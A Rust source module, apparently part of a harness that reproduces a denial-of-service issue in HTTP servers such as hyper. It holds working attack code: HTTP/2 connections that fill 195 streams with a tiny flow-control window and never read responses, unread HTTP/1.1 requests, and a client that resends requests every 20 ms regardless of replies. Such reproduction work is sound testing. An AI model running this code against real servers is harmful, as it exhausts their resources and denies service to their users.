//! Answers that are asked for and not taken.

use std::io::{self, Write as _};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use super::{Connection, Protocol, Request, Target, each, http2};

/// The most that hyper takes on one connection is 200; the measurements of the issue were made with these.
pub const STREAMS: u32 = 195;

/// Connections of HTTP/2 with all streams waiting for the answer to `request`, of which each may send no more than
/// `window`. Nothing is read, also not what the window allows.
pub fn over_http2(
    target: &Target,
    request: &Request,
    connections: u32,
    window: u32,
) -> Vec<Connection> {
    over_streams(target, request, (connections, STREAMS), window)
}

/// The same, with so many connections, and streams on each: a proxy ends one with more than it takes.
pub fn over_streams(
    target: &Target,
    request: &Request,
    (connections, streams): (u32, u32),
    window: u32,
) -> Vec<Connection> {
    let mut bytes = http2::preface(window);
    for number in 0..streams {
        bytes.extend(http2::head(http2::stream(number), request, false));
    }
    each(connections, |number| {
        let mut connection = target.connect(number, Protocol::Http2)?;
        connection.write_all(&bytes)?;
        Ok(connection)
    })
}

/// Connections of HTTP/1.1, each with one request whose answer is not read.
pub fn over_http1(target: &Target, request: &Request, connections: u32) -> Vec<Connection> {
    let head = request.head("");
    each(connections, |number| {
        let mut connection = target.connect(number, Protocol::Http1)?;
        connection.write_all(head.as_bytes())?;
        Ok(connection)
    })
}

/// How often the client asks who does not stop asking.
const AGAIN: Duration = Duration::from_millis(20);

/// Asks on one connection of HTTP/2 until it ends, and takes the answers.
pub struct Asking(Arc<AtomicU32>);

impl Asking {
    /// How many requests it has sent so far.
    pub fn asked(&self) -> u32 {
        self.0.load(Ordering::Relaxed)
    }
}

/// A client who sends `request` again and again, whatever the server says. It is in the middle of that.
pub fn asking_again_and_again(target: &Target, request: &Request) -> io::Result<Asking> {
    let Connection::Clear(mut sender) = target.connect(0, Protocol::Http2)? else {
        return Err(io::Error::other("the attack is in clear"));
    };
    sender.write_all(&http2::preface(http2::WIDE))?;
    super::read_in_background(Connection::Clear(sender.try_clone()?));
    let asked = Arc::<AtomicU32>::default();
    let (count, request) = (Arc::clone(&asked), request.clone());
    std::thread::spawn(move || {
        for number in 0.. {
            let head = http2::head(http2::stream(number), &request, false);
            if sender.write_all(&head).is_err() {
                return;
            }
            count.fetch_add(1, Ordering::Relaxed);
            std::thread::sleep(AGAIN);
        }
    });
    let asking = Asking(asked);
    while asking.asked() < 5 {
        std::thread::sleep(AGAIN);
    }
    Ok(asking)
}
